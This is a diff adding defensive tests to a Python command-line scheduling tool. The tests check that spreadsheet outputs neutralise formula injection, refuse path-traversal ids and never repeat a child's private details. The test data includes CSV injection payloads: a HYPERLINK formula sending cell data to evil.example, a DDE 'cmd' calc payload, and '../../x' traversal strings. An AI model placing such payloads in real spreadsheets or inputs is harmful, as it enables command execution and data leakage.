@@ -15,6 +15,7 @@ import re
 import shutil
 import subprocess
 import sys
+import tempfile
 from collections import Counter
 from datetime import date, datetime, time, timedelta
 from email.message import Message
@@ -24,13 +25,16 @@ from zoneinfo import ZoneInfo
 
 import openpyxl
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from typer.testing import CliRunner, Result
 
 from allocator import Policy, WorkingCalendar
+from jags.bundled import sample_folder
 from jags.cli import app
 
 ROOT = Path(__file__).resolve().parent.parent
-SAMPLE = ROOT / "data" / "sample"
+SAMPLE = sample_folder()  # the bundled sample, found as the installed product finds it
 LONDON = ZoneInfo("Europe/London")
 ON = "2026-11-23"
 CONFIRMED = date(2026, 11, 30)
@@ -884,3 +888,381 @@ def test_the_command_loads_no_solver_spreadsheet_or_network_library_until_used()
     assert not {m for m in loaded if m.startswith("ortools.sat")}
     assert not {m.split(".")[0] for m in loaded} & {"requests", "exchangelib", "msal",
                                                     "icalendar", "scheduling"}
+
+
+# Hostile input: formulas, unsafe ids, private values in the wrong column, huge numbers ---
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+TEXT_COLUMNS = {
+    "facilitators": ("name", "organisation", "sector", "locality", "specialisms"),
+    "requests": ("requester_name", "requester_organisation", "case_ref", "family_ref",
+                 "locality", "topic", "preference_rationale"),
+    "participants": ("name", "organisation"),
+    "involvements": ("note",),
+}
+ID_COLUMNS = {"facilitators": ("facilitator_id",), "requests": ("request_id",
+              "preferred_facilitator_id", "follow_up_of"), "participants": ("request_id",),
+              "history": ("request_id", "facilitator_id")}
+
+
+def tiny_tables() -> dict[str, tuple[list[str], list[list[str]]]]:
+    from jags.generate import generate_workspace, workspace_tables
+
+    return workspace_tables(generate_workspace(3, 6, seed=1, with_gaps=False))
+
+
+def write_tables(folder: Path, tables: dict[str, tuple[list[str], list[list[str]]]]) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, (head, rows) in tables.items():
+        buffer = io.StringIO()  # every cell quoted, so a carriage return stays in its cell
+        csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([head, *rows])
+        (folder / f"{name}.csv").write_text(buffer.getvalue(), encoding="utf-8")
+    return folder
+
+
+def every_cell(out: Path) -> list[str]:
+    """Every CSV cell (as a CSV reader gives it) under ``out``."""
+    return [cell for path in sorted(out.rglob("*.csv")) for row in csv.reader(
+        io.StringIO(path.read_text("utf-8"), newline="")) for cell in row]
+
+
+@pytest.mark.parametrize("prefix", FORMULA_START)
+def test_hostile_text_is_never_a_formula(prefix: str, tmp_path: Path) -> None:
+    tables = tiny_tables()
+    for name, columns in TEXT_COLUMNS.items():
+        head, rows = tables[name]
+        for row in rows:
+            for column in columns:
+                row[head.index(column)] = f'{prefix}HYPERLINK("http://evil.example/?"&B2,"x")'
+    head, rows = tables["requests"]
+    rows[0][head.index("preference_rationale")] = f"{prefix}cmd|' /C calc'!A0"
+    workspace = write_tables(tmp_path / "ws", tables)
+    policy = tmp_path / "policy.toml"
+    policy.write_text(f'base = "norfolk"\nname = "{prefix.encode("unicode_escape").decode()}'
+                      'SUM(1+1)"\n', "utf-8")
+    out = tmp_path / "out"
+    result = jags("allocate", workspace, "--on", ON, "--format", "xlsx", "--policy", policy,
+                  "--out", out)
+    assert result.exit_code == 0, result.output
+    sessions = tmp_path / "sessions"
+    result = jags("schedule", workspace, "--allocations", out / "allocations.csv",
+                  "--confirmed-on", "2026-11-30", "--out", sessions)
+    assert result.exit_code == 0, result.output
+    cells = every_cell(out) + every_cell(sessions)
+    assert not [c for c in cells if c.startswith(FORMULA_START)
+                and not re.fullmatch(r"-\d+(\.\d+)?", c)]
+    if not prefix.isspace():  # (leading spaces, tabs and line breaks are trimmed on reading)
+        assert f"'{prefix}cmd|' /C calc'!A0" in cells  # the pinned rationale, as text
+        assert any(c.startswith(f"'{prefix}HYPERLINK") for c in cells)  # a participant's name
+    book = openpyxl.load_workbook(out / "allocations.xlsx")  # not read-only: formulas kept
+    hostile = [cell for sheet in book for row in sheet.iter_rows() for cell in row
+               if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row
+                if c.data_type == "f"]
+    assert all(c.data_type == "s" for c in hostile)
+    if not prefix.isspace():
+        assert any(c.value == f"{prefix}cmd|' /C calc'!A0" for c in hostile)
+        assert book["Summary"]["B2"].value == f"{prefix}SUM(1+1)"
+
+
+@pytest.mark.parametrize("prefix", FORMULA_START)
+def test_ids_starting_with_a_formula_character_never_reach_an_output(prefix: str,
+                                                                     tmp_path: Path) -> None:
+    tables = tiny_tables()
+    ids = {row[0] for row in tables["facilitators"][1]} | {row[0] for row in tables["requests"][1]}
+    ids |= {row[0] for row in tables["history"][1]}
+    for head, rows in tables.values():
+        for row in rows:
+            for i, column in enumerate(head):
+                if column in {c for cs in ID_COLUMNS.values() for c in cs} and row[i] in ids:
+                    row[i] = prefix + row[i]  # the same id everywhere, so references match
+    out = tmp_path / "out"
+    result = jags("allocate", write_tables(tmp_path / "ws", tables), "--on", ON, "--format",
+                  "xlsx", "--out", out)
+    if prefix.isspace():  # trimmed on reading: the ids are the plain ones
+        assert result.exit_code == 0, result.output
+        assert not [c for c in every_cell(out) if c.startswith(FORMULA_START)]
+        book = openpyxl.load_workbook(out / "allocations.xlsx")
+        assert not [c for sheet in book for row in sheet.iter_rows() for c in row
+                    if c.data_type == "f"]
+    else:
+        assert_clean_failure(result, out, "facilitators.csv, row 2, column facilitator_id: "
+                                          "value is not a valid id")
+
+
+@pytest.mark.parametrize(("table", "column"), [(t, c) for t, cs in ID_COLUMNS.items()
+                                                for c in cs])
+@pytest.mark.parametrize("text", ["a/b", "../../x", "=HYPERLINK(\"x\")", "@R1", "-F1",
+                                  "Jayden Smith (DOB 01/02/2015)"])
+def test_unsafe_ids_are_refused_with_exit_2(table: str, column: str, text: str,
+                                            tmp_path: Path) -> None:
+    tables = tiny_tables()
+    head, rows = tables[table]
+    row = next(i for i, r in enumerate(rows) if r[head.index(column)]) if column in (
+        "preferred_facilitator_id", "follow_up_of") else 0
+    rows[row][head.index(column)] = text
+    out = tmp_path / "out"
+    result = jags("allocate", write_tables(tmp_path / "ws", tables), "--on", ON, "--out", out)
+    assert_clean_failure(result, out, f"{table}.csv, row {row + 2}, column {column}: value "
+                                      "is not a valid id")
+    assert text not in result.output and "Jayden" not in result.output
+
+
+def test_an_unsafe_request_id_on_the_command_line_is_exit_2(schedule_copy: Path) -> None:
+    before = snapshot(schedule_copy)
+    for args in (["explain", "../../x", "--workspace", SAMPLE, "--on", ON],
+                 ["invite", schedule_copy, "--choose", "../../x=1"],
+                 ["invite", schedule_copy, "--cancel", "a/b"],
+                 ["invite", schedule_copy, "--choose", "Jayden Smith (DOB 01/02/2015)=1"]):
+        result = jags(*args)
+        assert result.exit_code == 2, result.output
+        assert isinstance(result.exception, SystemExit)
+        assert "Jayden" not in result.output and "../../x" not in result.output
+    assert snapshot(schedule_copy) == before
+
+
+def test_schedule_refuses_unsafe_ids_and_never_repeats_private_values(
+        allocated: tuple[Result, Path], tmp_path: Path) -> None:
+    path = _allocations_copy(allocated, tmp_path)
+    set_cell(path, 2, "request_id", "a/b")
+    set_cell(path, 3, "facilitator_id", "Jayden Smith (DOB 01/02/2015)")
+    workspace = copy_sample(tmp_path)
+    with (workspace / "calendars" / "availability.csv").open("a", encoding="utf-8") as handle:
+        handle.write('"Jayden.Smith@school.example, eve@evil.example",2026-12-01T09:00,'
+                     '2026-12-01T10:00,busy\n')
+    out = tmp_path / "out"
+    result = jags("schedule", workspace, "--allocations", path, "--confirmed-on",
+                  "2026-11-30", "--out", out)
+    assert result.exit_code == 2, result.output
+    assert "Jayden" not in result.output and "a/b" not in result.output
+    assert not out.exists()
+    set_cell(path, 2, "request_id", "R-0001")
+    set_cell(path, 3, "facilitator_id", "F001")
+    result = jags("schedule", workspace, "--allocations", path, "--confirmed-on",
+                  "2026-11-30", "--out", out)
+    assert_clean_failure(result, out, "availability.csv, row ", "column email: value is not "
+                                      "an e-mail address")
+    assert "Jayden" not in result.output
+
+
+def test_a_child_name_in_an_id_column_is_never_repeated(tmp_path: Path) -> None:
+    workspace = copy_sample(tmp_path)
+    set_cell(workspace / "requests.csv", 3, "preferred_facilitator_id",
+             "Jayden Smith (DOB 01/02/2015)")
+    set_cell(workspace / "involvements.csv", 2, "facilitator_id", "Jayden Smith")
+    out = tmp_path / "out"
+    result = jags("allocate", workspace, "--on", ON, "--out", out)
+    assert_clean_failure(result, out,
+                         "requests.csv, row 3, column preferred_facilitator_id: value is not",
+                         "involvements.csv, row 2, column facilitator_id: value is not")
+    assert "Jayden" not in result.output
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("51", "'51' is above the policy limit of 50 (max_open_limit)"),
+    ("1" + "0" * 40, "value is too large a number"),
+    ("10000000", "'10000000' is above the policy limit of 50"),
+])
+def test_capacity_beyond_sense_is_an_input_error(value: str, expected: str,
+                                                 tmp_path: Path) -> None:
+    workspace = copy_sample(tmp_path)
+    set_cell(workspace / "facilitators.csv", 3, "max_open", value)
+    out = tmp_path / "out"
+    result = jags("allocate", workspace, "--on", ON, "--out", out)
+    assert_clean_failure(result, out, f"facilitators.csv, row 3, column max_open: {expected}")
+
+
+# Property: whatever is in the files, the answer is success or exit 2, never a traceback ---
+
+HOSTILE_VALUES = ["", " ", "a/b", "../../x", "=1+1", "-", "@", "\t", "\r\n", "\x00", "\x1b",
+                  "Jayden Smith (DOB 01/02/2015)", "9" * 40, "-1", "0", "51", "1e400", "nan",
+                  "31/02/2026", "9999-12-31", "0001-01-01", "9999-12-31T23:59+23:59",
+                  "2026-11-23T25:00", "x@y", "a@b, c@d", "a\nb@c", "true", "maybe",
+                  "in person", "optional", "lead", "co", "R-0001", "F001", "H-0001",
+                  "x" * 20_000, "\u2028", "\ud7ff", "ʻOkina"]
+cell_values = st.one_of(
+    st.sampled_from(HOSTILE_VALUES), st.text(max_size=40),
+    st.integers(-10**45, 10**45).map(str), st.integers(-3, 60).map(str),
+    st.dates().map(str), st.dates().map(lambda d: f"{d:%d/%m/%Y}"),
+    st.datetimes().map(lambda d: d.isoformat()),
+    st.lists(st.sampled_from(["a@x.example", "", "x", "F001", " ; "]), max_size=3).map(";".join))
+#: Values of the right kind but beyond sense, by column: these get past reading.
+KIND_VALUES = {
+    "number": st.one_of(st.integers(-5, 100), st.integers(2**31 - 2, 2**31 + 2),
+                        st.integers(2**63 - 2, 2**63 + 2), st.integers(10**18, 10**45)
+                        ).map(str),
+    "date": st.one_of(st.dates(), st.dates(min_value=date(2026, 1, 1),
+                                           max_value=date(2027, 12, 31))).map(str),
+    "datetime": st.datetimes().map(lambda d: d.isoformat(timespec="minutes")),
+    "id": st.one_of(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,63}", fullmatch=True),
+                    st.sampled_from(["R-0001", "R-0002", "F001", "F002", "H-0001"])),
+    "text": st.text(st.characters(blacklist_categories=["Cc", "Cs"]), max_size=60),
+}
+COLUMN_KIND = {"max_open": "number", "open_jags": "number", "trained_on": "date",
+               "training_expires": "date", "start": "date", "end": "date",
+               "allocated_on": "date", "held_on": "date", "closed_on": "date",
+               "received_at": "datetime", "facilitator_id": "id", "request_id": "id",
+               "preferred_facilitator_id": "id", "follow_up_of": "id"}
+PROPERTY = settings(max_examples=60, deadline=None, derandomize=True,
+                    suppress_health_check=[HealthCheck.too_slow,
+                                           HealthCheck.function_scoped_fixture])
+
+
+def assert_exit_0_or_2(result: Result, out: Path) -> None:
+    assert result.exit_code in (0, 2), (result.output, result.exception)
+    assert result.exception is None or isinstance(result.exception, SystemExit), \
+        repr(result.exception)
+    assert "Traceback" not in result.output
+    if result.exit_code == 2:
+        assert result.stderr.startswith("error:") and not out.exists()
+
+
+@st.composite
+def changed_cells(draw: st.DrawFn, tables: dict[str, tuple[list[str], list[list[str]]]],
+                  only: str | None = None) -> list[tuple[str, int, int, str]]:
+    """One to four (table, row, column, value) changes to tables that have rows (or to
+    table ``only``)."""
+    names = [only] if only else sorted(name for name, (_, rows) in tables.items() if rows)
+    changes = []
+    for _ in range(draw(st.integers(1, 3))):
+        name = draw(st.sampled_from(names))
+        head, rows = tables[name]
+        column = draw(st.integers(0, len(head) - 1))
+        kind = KIND_VALUES[COLUMN_KIND.get(head[column], "text")]
+        value = draw(st.one_of(kind, kind, cell_values))  # mostly of the column's kind
+        changes.append((name, draw(st.integers(0, len(rows) - 1)), column, value))
+    return changes
+
+
+def _apply(tables: dict[str, tuple[list[str], list[list[str]]]],
+           changes: list[tuple[str, int, int, str]]
+           ) -> dict[str, tuple[list[str], list[list[str]]]]:
+    copied = {name: (list(head), [list(r) for r in rows]) for name, (head, rows) in
+              tables.items()}
+    for name, row, column, value in changes:
+        copied[name][1][row][column] = value
+    return copied
+
+
+TINY = tiny_tables()
+
+
+@pytest.mark.parametrize("table", sorted(name for name, (_, rows) in TINY.items() if rows))
+@PROPERTY
+@given(data=st.data())
+def test_any_workspace_cell_gives_success_or_exit_2(table: str, data: st.DataObject,
+                                                    tmp_path: Path) -> None:
+    changes = data.draw(changed_cells(TINY, table))
+    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
+        workspace = write_tables(Path(folder) / "ws", _apply(TINY, changes))
+        out = Path(folder) / "out"
+        assert_exit_0_or_2(jags("allocate", workspace, "--on", ON, "--out", out), out)
+
+
+@PROPERTY
+@given(changes=changed_cells(TINY), types=st.lists(st.one_of(
+    st.integers(), st.floats(allow_nan=True), st.booleans(), st.datetimes(), st.dates(),
+    st.times()), min_size=4, max_size=4))
+def test_any_workbook_cell_gives_success_or_exit_2(changes: list[tuple[str, int, int, str]],
+                                                   types: list[object],
+                                                   tmp_path: Path) -> None:
+    tables = _apply(TINY, changes)
+    book = openpyxl.Workbook()
+    book.remove(book.active)
+    for name, (head, rows) in tables.items():
+        sheet = book.create_sheet(name)
+        for line in [head, *rows]:
+            sheet.append([re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", c) for c in line])
+    for (name, row, column, _), value in zip(changes, types, strict=False):
+        book[name].cell(row + 2, column + 1, value)  # a typed cell, not text
+    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
+        path = Path(folder) / "ws.xlsx"
+        book.save(path)
+        out = Path(folder) / "out"
+        assert_exit_0_or_2(jags("allocate", path, "--on", ON, "--out", out), out)
+
+
+@PROPERTY
+@given(data=st.binary(max_size=3000), table=st.sampled_from(sorted(TINY)))
+def test_any_bytes_in_a_workspace_file_give_success_or_exit_2(data: bytes, table: str,
+                                                              tmp_path: Path) -> None:
+    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
+        workspace = write_tables(Path(folder) / "ws", TINY)
+        (workspace / f"{table}.csv").write_bytes(data)
+        out = Path(folder) / "out"
+        assert_exit_0_or_2(jags("allocate", workspace, "--on", ON, "--out", out), out)
+        book = Path(folder) / "book.xlsx"
+        book.write_bytes(b"PK\x03\x04" + data)
+        assert_exit_0_or_2(jags("allocate", book, "--on", ON, "--out", out), out)
+
+
+@pytest.fixture(scope="module")
+def tiny_allocated(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    folder = tmp_path_factory.mktemp("tiny")
+    workspace = write_tables(folder / "ws", TINY)
+    result = jags("allocate", workspace, "--on", ON, "--out", folder / "allocated")
+    assert result.exit_code == 0, result.output
+    return workspace, folder / "allocated" / "allocations.csv"
+
+
+def _read_rows(path: Path) -> tuple[list[str], list[list[str]]]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        head, *rows = list(csv.reader(handle))
+    return head, rows
+
+
+@PROPERTY
+@given(data=st.data())
+def test_any_allocations_or_availability_file_gives_success_or_exit_2(
+        data: st.DataObject, tiny_allocated: tuple[Path, Path], tmp_path: Path) -> None:
+    workspace, allocations = tiny_allocated
+    emails = [row[2] for row in TINY["facilitators"][1][:3]]
+    availability = (["email", "start", "end", "status"],
+                    [[e, "2026-12-14T09:00", "2026-12-14T12:00", "busy"] for e in emails])
+    files = {"allocations": _read_rows(allocations), "availability": availability}
+    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
+        ws = Path(folder) / "ws"
+        shutil.copytree(workspace, ws)
+        changed = _apply(files, data.draw(changed_cells(files)))
+        write_tables(ws, {"availability": changed["availability"]})
+        write_tables(Path(folder), {"allocations": changed["allocations"]})
+        if data.draw(st.booleans()):
+            name = data.draw(st.sampled_from(["availability.csv", "allocations.csv"]))
+            target = ws / name if name == "availability.csv" else Path(folder) / name
+            target.write_bytes(data.draw(st.binary(max_size=500)))
+        out = Path(folder) / "out"
+        assert_exit_0_or_2(jags("schedule", ws, "--allocations", Path(folder) / "allocations.csv",
+                                "--confirmed-on", "2026-11-30", "--out", out), out)
+
+
+POLICY_KEYS = ["base", "name", "facilitators_per_request", "require_lead", "max_supervisees",
+               "allocate_within_days", "cutoff", "closure_days", "window_first_day",
+               "window_last_day", "session_minutes", "day_start", "day_end", "timezone",
+               "start_grid_minutes", "max_open_limit", "penalties", "preferences",
+               "time_limit_seconds", "nonsense"]
+toml_values = st.recursive(
+    st.one_of(st.integers(-10**30, 10**30).map(str), st.floats().map(repr),
+              st.booleans().map(lambda b: str(b).lower()),
+              st.text(max_size=20).map(lambda t: '"' + t.encode("unicode_escape").decode()
+                                       .replace('"', '\\"') + '"'),
+              st.sampled_from(['"norfolk"', '"Mars/Base"', '"../x"', "17:00", "25:00",
+                               "2026-12-24", "[2026-12-24, 1]", '"bedfordshire"', "inf",
+                               "nan", "{ same_sector = -1 }", "{ bogus = 1 }"])),
+    lambda inner: st.lists(inner, max_size=3).map(lambda v: "[" + ", ".join(v) + "]"),
+    max_leaves=5)
+
+
+@PROPERTY
+@given(lines=st.lists(st.tuples(st.sampled_from(POLICY_KEYS), toml_values), max_size=6),
+       junk=st.one_of(st.none(), st.binary(max_size=200)))
+def test_any_policy_file_gives_success_or_exit_2(lines: list[tuple[str, str]],
+                                                 junk: bytes | None, tmp_path: Path) -> None:
+    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
+        path = Path(folder) / "policy.toml"
+        if junk is None:
+            path.write_text("".join(f"{k} = {v}\n" for k, v in lines), "utf-8")
+        else:
+            path.write_bytes(junk)
+        result = jags("policies", path)
+        assert_exit_0_or_2(result, Path(folder) / "out")
